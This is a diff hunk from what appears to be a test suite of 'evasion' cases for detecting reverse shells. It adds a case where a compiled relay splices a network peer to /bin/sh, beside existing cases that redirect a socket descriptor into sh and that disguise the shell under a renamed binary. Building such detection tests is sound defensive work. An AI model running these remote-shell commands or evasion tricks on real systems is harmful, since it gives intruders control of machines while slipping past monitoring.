@@ -140,6 +140,11 @@ n = s.fileno()
 subprocess.run(["bash", "-c", "exec sh <&%d >&%d 2>&1" % (n, n)], pass_fds=[n], stdin=subprocess.DEVNULL)`,
   ),
   evasion(
+    "a compiled relay splices to a shell",
+    "no bytes are ever read",
+    (place) => `exec ${PROGRAMS}/splice_relay ${peer(place)} /bin/sh`,
+  ),
+  evasion(
     "a compiled relay splices to a renamed shell",
     "no bytes are ever read, no program is known",
     (place) => `exec ${PROGRAMS}/splice_relay ${peer(place)} /usr/local/bin/metricsd`,
